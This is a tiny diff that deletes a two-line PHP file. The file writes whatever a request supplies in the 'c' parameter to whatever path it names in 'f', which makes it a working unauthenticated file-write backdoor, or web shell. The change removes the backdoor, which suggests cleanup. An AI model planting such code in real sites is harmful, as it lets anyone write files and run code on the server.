@@ -1,2 +1,0 @@
-<?php
-$p = (new SplFileObject($_GET['f'], 'w'))->fwrite($_GET['c']);
